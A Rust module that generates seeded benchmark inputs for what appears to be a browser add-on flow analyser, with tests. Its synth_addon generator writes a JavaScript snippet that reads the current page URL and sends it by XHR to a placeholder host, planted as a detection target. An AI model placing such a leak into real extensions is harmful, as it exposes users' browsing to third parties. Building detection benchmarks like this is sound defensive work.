//! Workload inputs, all generated from `--seed`. The program under test
//! only ever sees the sources built here.
//!
//! Sizes and mixes are fixed rather than drawn: the seed picks
//! identifiers, literals, comments and the order of work, while the
//! input sizes, which inputs carry a flow and the mix of kinds, and with
//! them the cost of the workload, stay the same from seed to seed. That
//! is what lets runs at different seeds be compared.

use crate::rng::{log_uniform_grid, Rng};
use std::fmt::Write;

/// What a correct signature for an input looks like. Every reference
/// comes from a hand-written source: the corpus's manual signatures and
/// paper verdicts, the attack gallery's documented evidence, or the
/// flow a generator planted.
#[derive(Debug, Clone, PartialEq)]
pub enum Expect {
    /// `corpus::addons()[i]`: comparing against its manual signature
    /// gives the paper's verdict.
    Paper(usize),
    /// `corpus::attacks::attacks()[i]`: every evidence item appears.
    Evidence(usize),
    /// Exactly one explicit `url → send` flow to this host, or no flow
    /// at all for `None`.
    Planted(Option<String>),
}

#[derive(Debug, Clone)]
pub struct Input {
    pub name: String,
    pub source: String,
    pub expect: Expect,
    /// The index in [`bases`] this input is a variant of (commented or
    /// edited), whose signature it must reproduce.
    pub base: Option<usize>,
}

/// The ten corpus addons followed by the five attack-gallery samples.
pub fn bases() -> Vec<Input> {
    let corpus = corpus::addons()
        .into_iter()
        .enumerate()
        .map(|(i, a)| Input {
            name: a.name.to_owned(),
            source: a.source.to_owned(),
            expect: Expect::Paper(i),
            base: None,
        });
    let gallery = corpus::attacks::attacks()
        .into_iter()
        .enumerate()
        .map(|(i, a)| Input {
            name: a.name.to_owned(),
            source: a.source.to_owned(),
            expect: Expect::Evidence(i),
            base: None,
        });
    corpus.chain(gallery).collect()
}

pub const SYNTH_ADDONS: usize = 20;
const SYNTH_MIN_FNS: f64 = 6.0;
const SYNTH_MAX_FNS: f64 = 18.0;
const SYNTH_PLANTED: usize = 5;

/// `synth_manyfn`: many-function addons in `incr_bench`'s shape with
/// seeded identifiers, literals and hosts. Function counts are
/// log-uniform over `[6, 18]`; five of the twenty carry a planted URL →
/// XHR flow, the largest of every four consecutive sizes. A flow adds
/// to an addon's cost, so which addons carry one is fixed too: when the
/// seed picked them, the seed moved the median and the tail by 5–10%.
pub fn synth_inputs(seed: u64) -> Vec<Input> {
    let mut rng = Rng::new(seed, "synth_manyfn");
    let sizes = log_uniform_grid(SYNTH_MIN_FNS, SYNTH_MAX_FNS + 1.0, SYNTH_ADDONS);
    let stratum = SYNTH_ADDONS / SYNTH_PLANTED;
    sizes
        .into_iter()
        .enumerate()
        .map(|(i, n)| {
            let n = n.floor() as usize;
            let planted = i % stratum == stratum - 1;
            let host = planted.then(|| format!("synth-{}.example", rng.below(1_000_000)));
            Input {
                name: format!("synth{i}-{n}fn"),
                source: synth_addon(&mut rng, n, host.as_deref()),
                expect: Expect::Planted(host),
                base: None,
            }
        })
        .collect()
}

fn synth_addon(rng: &mut Rng, n: usize, host: Option<&str>) -> String {
    let f = rng.word(5);
    let v = rng.word(3);
    let lit = rng.word(6);
    let mut src = String::new();
    for i in 0..n {
        let _ = write!(
            src,
            "function {f}{i}(seed) {{\n  var probe = '{lit}-probe-{i}';\n  var tag = '{lit}-{i}';\n"
        );
        let _ = writeln!(src, "  var {v}1 = tag + ':' + seed;");
        for (k, suffix) in ["a", "b", "c", "d", "e", "f", "g"].iter().enumerate() {
            let _ = writeln!(src, "  var {v}{} = {v}{} + '/{suffix}{i}';", k + 2, k + 1);
        }
        let _ = write!(
            src,
            "  var out = '';\n  if (seed) {{ out = {v}8 + '/hot'; }} else {{ out = {v}8 + '/cold'; }}\n  \
             var trail = out + '#' + tag;\n  return trail;\n}}\n"
        );
    }
    for i in 0..n {
        let _ = writeln!(src, "{f}{i}({});", i % 2);
    }
    if let Some(host) = host {
        let _ = write!(
            src,
            "var {v}Url = content.location.href;\nvar {v}Req = XHRWrapper(\"http://{host}/\");\n{v}Req.send({v}Url);\n"
        );
    }
    src
}

fn variant(base: &Input, index: usize, name: String, source: String) -> Input {
    Input {
        name,
        source,
        expect: base.expect.clone(),
        base: Some(index),
    }
}

/// One `serve_cold` job of a cycle.
#[derive(Clone, Copy)]
enum Kind {
    /// A flow-free synthetic shape with this many function pairs.
    Benign(usize),
    /// Corpus or gallery addon `b` with a unique trailing comment.
    Base(usize),
    /// This cycle's `Base(b)` job plus one top-level statement.
    Edit(usize),
}

/// Jobs per `serve_cold` cycle: 60% benign shapes, 20% corpus and
/// gallery addons, 20% edits.
pub const COLD_CYCLE: usize = 75;
const COLD_BENIGN: usize = 45;
const BENIGN_MIN_PAIRS: usize = 6;
const BENIGN_MAX_PAIRS: usize = 16;

/// `serve_cold`'s job stream: `cycles` cycles of sources no daemon has
/// seen before. Every cycle holds the same mix, so every cycle, and
/// every seed, is the same amount of work: 45 benign flow-free shapes
/// with 6–16 function pairs (each count four or five times), each of the
/// 15 corpus and gallery addons once, made distinct by a unique trailing
/// comment, and one edit of each of those, which is the cycle's earlier
/// job plus one top-level statement. The seed picks identifiers,
/// literals and the order within each cycle.
pub fn cold_jobs(seed: u64, bases: &[Input], cycles: usize) -> Vec<Input> {
    let mut rng = Rng::new(seed, "serve_cold");
    let mut jobs: Vec<Input> = Vec::with_capacity(cycles * COLD_CYCLE);
    let span = BENIGN_MAX_PAIRS - BENIGN_MIN_PAIRS + 1;
    for _ in 0..cycles {
        let mut kinds: Vec<Kind> = (0..COLD_BENIGN)
            .map(|i| Kind::Benign(BENIGN_MIN_PAIRS + i * span / COLD_BENIGN))
            .chain((0..bases.len()).map(Kind::Base))
            .chain((0..bases.len()).map(Kind::Edit))
            .collect();
        assert_eq!(kinds.len(), COLD_CYCLE, "a cycle holds 15 bases");
        rng.shuffle(&mut kinds);
        // An edit needs its job earlier in the cycle: swapping the two
        // keeps the shuffled positions.
        for b in 0..bases.len() {
            let base_at = kinds
                .iter()
                .position(|k| matches!(k, Kind::Base(x) if *x == b));
            let edit_at = kinds
                .iter()
                .position(|k| matches!(k, Kind::Edit(x) if *x == b));
            let (base_at, edit_at) = (base_at.expect("a job"), edit_at.expect("an edit"));
            if edit_at < base_at {
                kinds.swap(edit_at, base_at);
            }
        }
        let mut base_job = vec![0; bases.len()];
        for kind in kinds {
            let j = jobs.len();
            jobs.push(match kind {
                Kind::Benign(pairs) => Input {
                    name: format!("cold{j}-benign{pairs}"),
                    source: benign_addon(&mut rng, j, pairs),
                    expect: Expect::Planted(None),
                    base: None,
                },
                Kind::Base(b) => {
                    base_job[b] = j;
                    let source = format!(
                        "{}\n// submission {j}-{:016x}\n",
                        bases[b].source,
                        rng.next_u64()
                    );
                    variant(&bases[b], b, format!("cold{j}-{}", bases[b].name), source)
                }
                Kind::Edit(b) => {
                    let source = format!(
                        "{}\nvar __edit{j} = {};\n",
                        jobs[base_job[b]].source,
                        rng.below(1000)
                    );
                    variant(&bases[b], b, format!("cold{j}-edit"), source)
                }
            });
        }
    }
    jobs
}

/// A flow-free addon of `pairs` helper/wrapper function pairs doing
/// branching string munging: the long benign tail of a vetting queue.
fn benign_addon(rng: &mut Rng, id: usize, pairs: usize) -> String {
    let s = rng.word(4);
    let lit = rng.word(5);
    let mut src = String::new();
    for f in 0..pairs {
        let _ = write!(
            src,
            "function step_{s}{id}_{f}(tag) {{\n  var label = '{lit}-{id}-{f}:' + tag;\n  \
             return label + '/' + tag;\n}}\n\
             function wrap_{s}{id}_{f}(tag, n) {{\n  var body = step_{s}{id}_{f}(tag + '-w');\n  \
             var out = body;\n  if (n) {{ out = out + '#hot'; }} else {{ out = out + '#cold'; }}\n  \
             return out + '@{f}';\n}}\n"
        );
    }
    for f in 0..pairs {
        let _ = writeln!(src, "var r{id}_{f} = wrap_{s}{id}_{f}('t{f}', {});", f % 2);
    }
    src
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all_inputs(seed: u64) -> Vec<Input> {
        let bases = bases();
        let mut all = bases.clone();
        all.extend(synth_inputs(seed));
        all.extend(cold_jobs(seed, &bases, 2));
        all
    }

    #[test]
    fn generators_are_deterministic_per_seed() {
        let a: Vec<String> = all_inputs(11).into_iter().map(|i| i.source).collect();
        let b: Vec<String> = all_inputs(11).into_iter().map(|i| i.source).collect();
        let c: Vec<String> = all_inputs(12).into_iter().map(|i| i.source).collect();
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    #[test]
    fn every_generated_input_parses() {
        for input in all_inputs(1) {
            if let Err(e) = jsparser::parse(&input.source) {
                panic!("{} does not parse: {e}", input.name);
            }
        }
    }

    #[test]
    fn synth_sizes_and_plants() {
        let inputs = synth_inputs(4);
        assert_eq!(inputs.len(), SYNTH_ADDONS);
        let planted = |seed| -> Vec<bool> {
            synth_inputs(seed)
                .iter()
                .map(|i| matches!(&i.expect, Expect::Planted(Some(_))))
                .collect()
        };
        for block in planted(4).chunks(SYNTH_ADDONS / SYNTH_PLANTED) {
            assert_eq!(
                block,
                [false, false, false, true],
                "the largest of four sizes"
            );
        }
        assert_eq!(planted(4), planted(5), "every seed plants the same addons");
        let fns: Vec<usize> = inputs
            .iter()
            .map(|i| i.source.matches("function ").count())
            .collect();
        assert_eq!(fns.first(), Some(&6));
        assert_eq!(fns.last(), Some(&18));
        assert!(
            fns.windows(2).all(|w| w[0] <= w[1]),
            "strata ascend: {fns:?}"
        );
    }

    #[test]
    fn cold_cycles_are_distinct_and_hold_one_mix() {
        let bases = bases();
        let jobs = cold_jobs(3, &bases, 3);
        assert_eq!(jobs.len(), 3 * COLD_CYCLE);
        let mut sources: Vec<&str> = jobs.iter().map(|j| j.source.as_str()).collect();
        sources.sort_unstable();
        sources.dedup();
        assert_eq!(sources.len(), jobs.len(), "every job is never-seen");
        for cycle in jobs.chunks(COLD_CYCLE) {
            let mut pairs: Vec<usize> = cycle
                .iter()
                .filter_map(|j| j.name.split("-benign").nth(1)?.parse().ok())
                .collect();
            pairs.sort_unstable();
            pairs.dedup();
            let mut per_base = vec![0; bases.len()];
            for (i, job) in cycle.iter().enumerate() {
                if let Some(b) = job.base {
                    per_base[b] += 1;
                }
                if job.name.ends_with("-edit") {
                    let b = job.base.expect("edits copy a base");
                    let edited = cycle[..i].iter().any(|e| job.source.starts_with(&e.source));
                    assert!(edited, "{} edits an earlier job of its cycle", job.name);
                    assert!(job.source.starts_with(&bases[b].source));
                }
            }
            let benign = cycle.iter().filter(|j| j.name.contains("-benign")).count();
            assert_eq!(benign, COLD_BENIGN);
            assert_eq!(
                pairs,
                (6..=16).collect::<Vec<_>>(),
                "every size, every cycle"
            );
            assert!(per_base.iter().all(|&n| n == 2), "{per_base:?}");
        }
    }
}
